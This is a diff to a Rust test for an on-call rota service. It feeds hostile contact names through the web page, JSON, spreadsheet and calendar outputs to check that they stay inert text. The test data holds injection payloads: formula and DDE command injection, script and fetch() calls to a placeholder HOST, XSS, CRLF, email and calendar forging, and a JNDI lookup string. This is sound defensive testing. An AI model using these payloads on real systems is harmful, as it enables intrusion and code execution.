@@ -14,7 +14,7 @@ use rotaline::app::Stage;
 use rotaline::call::{HotlineName, Outcome};
 use rotaline::config::Source;
 use rotaline::exports::{Numbers, Rows, Window, table};
-use rotaline::roster::Responder;
+use rotaline::roster::{Responder, masked};
 use rotaline::simulator::{CallerHabit, Delay, Habit, Sound};
 use rotaline::web::FeedLinks;
 use std::cell::RefCell;
@@ -24,27 +24,29 @@ use tokio::net::TcpListener;
 /// Whoever fetches this is heard.
 const HOST: &str = "HOST";
 
-/// What each of them is after: a formula, a script, another document, another header, another line, another order.
-const NAMES: [&str; 20] = [
+/// So many levels a rota has at most.
+const LEVELS: usize = 9;
+
+/// What each of them is after: a formula, a script, another document, another header, another line, another order. The first
+/// ones are on call now.
+const NAMES: [&str; 18] = [
     "=HYPERLINK(\"http://HOST/formula\") Ann",
-    "@SUM(A1) Ben",
-    "\t=cmd|' /C calc'!A0 Cyd",
-    "<script>fetch('http://HOST/script')</script> Dee",
-    "\"><img src=http://HOST/image onerror=alert(1)> Eve",
-    "' onmouseover='alert(1) Fay",
-    "Gus</Say><Dial>Gus</Dial><Play>http://HOST/play</Play>",
     "Hal\r\nhttps://HOST/a.mp3\r\nHal",
+    "<script>fetch('http://HOST/script')</script> Dee",
+    "Gus</Say><Dial>Gus</Dial><Play>http://HOST/play</Play>",
     "Ida\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:forged",
-    "Joe\r\nBcc: everybody@example.org\r\n\r\nforged",
     "Kim <!channel> <http://HOST/chat|click>",
     "Leo\u{1b}[2J\u{1b}[31m\u{7}",
     "Mia\u{202e}gnp.exe\u{2066}",
-    "Ned\u{0}\u{8}\u{85}\u{2028}ERROR forged",
+    "Ned\u{8}\u{85}\u{2028}ERROR forged",
+    "@SUM(A1) Ben",
+    "\t=cmd|' /C calc'!A0 Cyd",
+    "\"><img src=http://HOST/image onerror=alert(1)> Eve",
+    "' onmouseover='alert(1) Fay",
+    "Joe\r\nBcc: everybody@example.org\r\n\r\nforged",
     "Oda\\\",\"phone\":\"forged",
     "Pia\"} 1\nrotaline_forged{x=\"",
     "${jndi:ldap://HOST/x} {{Quin}} %s %n",
-    "Rob'); DROP TABLE calls;--",
-    "&lt;b&gt; &#x3c;Sue&#x3e; %3Cscript%3E",
     "https://HOST/tom.mp3",
 ];
 
@@ -56,7 +58,7 @@ fn lab() -> HotlineName {
     HotlineName("lab".to_owned())
 }
 
-/// All of them are on call all year, each on a level of his own; and what nobody knows stands beside them.
+/// All of them are on call, each on a level of his own, one half after the other; and what nobody knows comes after them.
 fn write(folder: &Path, host: &str) {
     let names: Vec<String> = NAMES.iter().map(|name| name.replace(HOST, host)).collect();
     let tab = |name: &str, rows: &[Vec<String>]| {
@@ -80,16 +82,19 @@ fn write(folder: &Path, host: &str) {
         format!("http://{host}/status"),
     ]);
     tab("Contacts", &contacts);
-    let levels = (1..=names.len()).map(|level| format!("L{level}"));
+    let levels = (1..=LEVELS).map(|level| format!("L{level}"));
     let head = [words(&["From", "Until"]), levels.collect()].concat();
     let row = |from: &str, until: &str, names: Vec<String>| [words(&[from, until]), names].concat();
-    let strangers = names.iter().map(|name| format!("nobody knows {name}")).collect();
+    // Lines of a cell are names of their own: whoever is meant stands on one.
+    let meant: Vec<String> = names.iter().map(|name| name.replace("\r\n", "  ").replace('\n', " ")).collect();
+    let strangers = names[..LEVELS].iter().map(|name| format!("nobody knows {name}")).collect();
     tab(
         "Rota",
         &[
             head,
-            row("2026-01-01 00:00", "2026-12-01 00:00", names.clone()),
-            row("2026-12-01 00:00", "2026-12-02 00:00", strangers),
+            row("2026-03-01 00:00", "2026-03-05 00:00", meant[..LEVELS].to_vec()),
+            row("2026-03-05 00:00", "2026-03-20 00:00", meant[LEVELS..].to_vec()),
+            row("2026-03-20 00:00", "2026-03-21 00:00", strangers),
         ],
     );
     // A further table of contacts, in a tab with a name of its own.
@@ -106,7 +111,7 @@ fn write(folder: &Path, host: &str) {
         ["Time zone", "Australia/Melbourne"],
         ["Country for phone numbers", "AU"],
         ["=HYPERLINK(\"http://HOST/s\")", "<script>1</script>"],
-        ["Last resort", "Sue"],
+        ["Last resort", "<b>nobody</b>"],
     ];
     let settings: Vec<_> = settings
         .iter()
@@ -123,7 +128,7 @@ async fn set(folder: &Path) -> Stage {
 /// The names as they are after reading.
 async fn on_call(stage: &Stage) -> Vec<Responder> {
     let people = stage.rehearsal().on_call().await.unwrap();
-    assert_eq!(people.len(), NAMES.len(), "{people:?}");
+    assert_eq!(people.len(), LEVELS, "{people:?}");
     people
 }
 
@@ -219,7 +224,8 @@ async fn a_hostile_rota_is_text_on_the_page_in_json_tables_and_calendars() {
         assert_is_text("a name", name);
         assert!(!name.contains(['\n', '\r', '\t']), "{name:?}");
     }
-    assert_page("the page", &get(&stage, "/").await, &[]);
+    let shown: Vec<String> = names.iter().map(|name| masked(name)).collect();
+    assert_page("the page", &get(&stage, "/").await, &shown);
 
     let json = get(&stage, "/api/v1/hotlines/lab/on-call").await;
     assert_is_text("on-call", &json);
@@ -240,13 +246,15 @@ async fn a_hostile_rota_is_text_on_the_page_in_json_tables_and_calendars() {
     let rota = stage.service().store().rota(&lab()).await.unwrap().unwrap();
     let window = Window {
         from: wednesday(),
-        until: wednesday() + TimeDelta::days(1),
+        until: wednesday() + TimeDelta::days(10),
     };
     let written = table(&Rows::of(&rota.roster, window, Numbers::InFull, 1_000).rows).unwrap();
     assert_table("the duties", &written, NAMES.len());
 
     let feeds = FeedLinks::open(stage.service().store()).await.unwrap();
-    for whose in std::iter::once(None).chain(names.iter().map(|name| Some(name.as_str()))) {
+    let everybody = rota.roster.contacts.iter().map(|who| Some(who.name.as_str()));
+    assert!(everybody.len() >= NAMES.len());
+    for whose in std::iter::once(None).chain(everybody) {
         let path = feeds.path(&lab(), whose);
         assert_calendar(&get(&stage, &path).await);
     }
